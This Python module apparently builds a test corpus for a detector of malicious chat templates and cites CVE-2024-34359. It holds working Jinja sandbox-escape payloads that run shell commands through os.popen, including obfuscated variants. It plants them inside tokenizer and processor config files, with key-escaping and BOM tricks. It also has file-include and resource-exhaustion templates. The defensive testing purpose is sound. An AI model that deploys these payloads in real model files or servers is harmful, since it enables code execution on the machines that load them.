"""Chat templates that leave the sandbox, or were written for programs that have none."""

from __future__ import annotations

import json
from typing import Final

from tests.corpus.malicious.common import one_file
from tests.corpus.payloads import SHELL
from tests.corpus.specimen import MALICIOUS, NEVER_CLEAN, Specimen, Verdict

LOOP: Final = "{% for message in messages %}{{ message['role'] + ': ' + message['content'] }}{% endfor %}"
_COMMAND: Final = json.dumps(SHELL)

_BY_SUBCLASS: Final = """{% for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings' %}
{{ c()._module.__builtins__['__import__']('os').popen(%s).read() }}{% endfor %}"""

# name -> description, template: all of them run a command where the environment is not a sandbox
ATTACKS: Final = {
    "cycler": ("a global's initialiser's globals", "{{ cycler.__init__.__globals__.os.popen(%s).read() }}"),
    "lipsum": ("the globals of a function", "{{ lipsum.__globals__['os'].popen(%s).read() }}"),
    "self": ("the template itself", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen(%s).read() }}"),
    "subclasses": ("the subclasses of object", _BY_SUBCLASS),
    "attr-filter": (
        "the attr filter, with names as text",
        "{{ (lipsum|attr('__globals__'))['os']|attr('popen')(%s)|attr('read')() }}",
    ),
    "concatenated": (
        "names put together from halves",
        "{{ (lipsum|attr('__glo' ~ 'bals__'))['o' ~ 's']['po' ~ 'pen'](%s).read() }}",
    ),
    "escaped": (
        "names in escapes",
        "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['\\x6fs'].popen(%s).read() }}",
    ),
    "joined": (
        "names joined from a list",
        "{% set n = ['_', '_', 'globals', '_', '_']|join %}{{ (lipsum|attr(n))['os'].popen(%s).read() }}",
    ),
    "namespace": (
        "an attribute by subscript, kept in a namespace",
        "{% set ns = namespace(f=namespace.__init__) %}{{ ns.f['__globals__']['os'].popen(%s).read() }}",
    ),
    "in-else": (
        "a branch that messages of a role never seen in tests take",
        "{% for m in messages %}{{ m.content }}{% else %}{{ joiner.__init__.__globals__.os.popen(%s) }}{% endfor %}",
    ),
}


def specimens() -> list[Specimen]:
    return [*_attacks(), *_places(), *_doubtful()]


def attack(name: str = "cycler") -> str:
    return ATTACKS[name][1].replace("%s", _COMMAND)


def _template(
    name: str,
    reference: str,
    description: str,
    path: str,
    content: str,
    *,
    expected: frozenset[Verdict] = MALICIOUS,
    loader: str | None = None,
) -> Specimen:
    text = content.encode()
    return one_file(
        f"template-{name}", "template", reference, description, path, text, expected=expected, loader=loader
    )


def _attacks() -> list[Specimen]:
    return [
        _template(
            name,
            "CVE-2024-34359",
            f"Runs a command through {how}",
            "chat_template.jinja",
            LOOP + attack(name),
            loader="jinja",
        )
        for name, (how, _) in ATTACKS.items()
    ]


def _places() -> list[Specimen]:
    """Where else templates lie: the GGUF ones are in `gguf`."""
    named = [{"name": "default", "template": LOOP}, {"name": "tool_use", "template": attack()}]
    places = {
        "tokenizer-config": ("tokenizer_config.json", json.dumps({"chat_template": attack(), "model_max_length": 512})),
        "named": ("tokenizer_config.json", json.dumps({"chat_template": named})),
        "processor": ("processor_config.json", json.dumps({"chat_template": attack()})),
        "own-json": ("chat_template.json", json.dumps({"chat_template": attack()})),
        "additional": ("additional_chat_templates/rag.jinja", attack()),
        "other-name": ("prompts/system.jinja2", attack()),
        "duplicate-key": (
            "tokenizer_config.json",
            f'{{"chat_template": {json.dumps(LOOP)}, "chat_template": {json.dumps(attack())}}}',
        ),
        "escaped-key": ("tokenizer_config.json", f'{{"chat\\u005ftemplate": {json.dumps(attack())}}}'),
        "with-bom": ("tokenizer_config.json", "\ufeff" + json.dumps({"chat_template": attack()})),
    }
    return [
        _template(f"in-{name}", "CVE-2024-34359", f"The attack lies in {path}", path, content)
        for name, (path, content) in places.items()
    ]


def _doubtful() -> list[Specimen]:
    """Nothing runs a command, but no sandbox should be trusted with these."""
    odd = {
        "include": ("file access", "Includes a file of the host", "{% include '/etc/hostname' %}" + LOOP),
        "import": (
            "file access",
            "Imports macros from a file",
            "{% import 'macros.jinja' as m %}{{ m.turn(messages) }}",
        ),
        "endless": (
            "resource exhaustion",
            "Loops 10^12 times",
            "{% for a in range(1000000) %}{% for b in range(1000000) %}{% endfor %}{% endfor %}" + LOOP,
        ),
        "huge-string": ("resource exhaustion", "A text of a terabyte", "{{ 'a' * 1000000000000 }}" + LOOP),
        "power": ("resource exhaustion", "A number of a billion digits", "{{ 9 ** 999999999 }}" + LOOP),
        "malformed": ("malformed", "Is no template at all", "{% for message in messages %}{{ message['role' }}"),
        "underscore": (
            "attribute access",
            "Reads a private attribute and does nothing with it",
            "{{ messages.__class__ }}" + LOOP,
        ),
        "format-string": (
            "attribute access",
            "str.format reaches attributes that the sandbox guards",
            "{{ '{0.__class__}'.format(messages) }}",
        ),
    }
    return [
        _template(name, reference, description, "chat_template.jinja", content, expected=NEVER_CLEAN)
        for name, (reference, description, content) in odd.items()
    ]
